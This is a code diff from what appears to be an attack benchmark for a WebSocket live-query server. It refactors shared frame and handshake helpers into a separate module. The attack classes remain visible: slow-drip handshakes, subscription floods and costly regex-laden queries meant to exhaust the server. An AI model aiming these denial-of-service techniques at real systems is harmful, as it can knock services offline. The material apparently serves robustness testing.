@@ -7,45 +7,9 @@ import json
 from typing import Any, ClassVar
 
 from bench.attack.attacks import Attack, Attacker
+from bench.attack.frames import UPGRADE, frame, message
 from bench.attack.scene import CORPUS, VICTIM
 from bench.attack.wire import Closed, Wire, head
-
-_UPGRADE = {
-    "Connection": "Upgrade",
-    "Upgrade": "websocket",
-    "Sec-WebSocket-Version": "13",
-    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
-}
-
-
-def frame(text: str | bytes, opcode: int = 1, *, is_final: bool = True) -> bytes:
-    """A frame of a client. Its mask is zero, so its payload is what it was."""
-    data = text.encode() if isinstance(text, str) else text
-    first = bytes([opcode | (0x80 if is_final else 0)])
-    if len(data) < 126:
-        size = bytes([0x80 | len(data)])
-    elif len(data) < 1 << 16:
-        size = bytes([0x80 | 126]) + len(data).to_bytes(2, "big")
-    else:
-        size = bytes([0x80 | 127]) + len(data).to_bytes(8, "big")
-    return first + size + b"\0\0\0\0" + data
-
-
-async def _message(wire: Wire) -> bytes:
-    """The payload of the next frame of the server."""
-    try:
-        start = await wire.reader.readexactly(2)
-        size = start[1]
-        if size == 126:
-            size = int.from_bytes(await wire.reader.readexactly(2), "big")
-        elif size == 127:
-            size = int.from_bytes(await wire.reader.readexactly(8), "big")
-        data = await wire.reader.readexactly(size)
-    except asyncio.IncompleteReadError as error:
-        raise Closed("the socket was closed") from error
-    if start[0] & 0x0F == 8:
-        raise Closed(f"closed with {int.from_bytes(data[:2], 'big')}")
-    return data
 
 
 class _Sockets(Attack):
@@ -56,7 +20,7 @@ class _Sockets(Attack):
         """A socket after its handshake; raises ``Closed`` if it is refused."""
         wire = await attacker.connect(receive_buffer)
         try:
-            answer = await attacker.exchange(wire, head("GET", self.path, _UPGRADE))
+            answer = await attacker.exchange(wire, head("GET", self.path, UPGRADE))
         except BaseException:
             wire.close()
             raise
@@ -68,7 +32,7 @@ class _Sockets(Attack):
     async def wait(self, wire: Wire) -> None:
         """Read until the server closes the socket."""
         while True:
-            await _message(wire)
+            await message(wire)
 
 
 class Handshakes(_Sockets):
@@ -103,7 +67,7 @@ class SlowHandshakes(_Sockets):
     p99 = 100.0
 
     async def attack(self, attacker: Attacker) -> None:
-        start = head("GET", self.path, _UPGRADE, end=False)
+        start = head("GET", self.path, UPGRADE, end=False)
         async with await attacker.connect() as wire:
             await attacker.drip(wire, start, b"X-Note: " + b"a" * 4_000)
 
@@ -167,12 +131,12 @@ class Subscriptions(_Sockets):
         async with await self.open(attacker, None if self.reads else 4096) as wire:
             connect = {"op": "connect", "applicationId": scene.application, "restAPIKey": scene.key}
             await wire.send(frame(json.dumps(connect)))
-            await _message(wire)
+            await message(wire)
             for number, where in enumerate(self.wheres(attacker)):
                 query = {"className": VICTIM, "where": where}
-                message = {"op": "subscribe", "requestId": number, "query": query}
-                await wire.send(frame(json.dumps(message)))
-                answer = json.loads(await _message(wire))
+                subscribe = {"op": "subscribe", "requestId": number, "query": query}
+                await wire.send(frame(json.dumps(subscribe)))
+                answer = json.loads(await message(wire))
                 attacker.tally.answers[answer.get("op", "?")] += 1
             if self.reads:
                 await self.wait(wire)
@@ -205,12 +169,12 @@ class SocketQueries(_Sockets):
             where = {"$or": [{"text": {"$regex": f"(a|e).*{n}.*q"}} for n in range(60)]}
             query = {"className": CORPUS, "where": where}
             await wire.send(frame(json.dumps(connect)))
-            await _message(wire)
+            await message(wire)
             await wire.send(frame(json.dumps({"op": "subscribe", "requestId": 1, "query": query})))
-            await _message(wire)
+            await message(wire)
             while not attacker.is_over:
                 await wire.send(frame(json.dumps({"op": "query", "requestId": 1})))
-                answer = json.loads(await _message(wire))
+                answer = json.loads(await message(wire))
                 attacker.tally.answers[answer.get("op", "?")] += 1
 
 
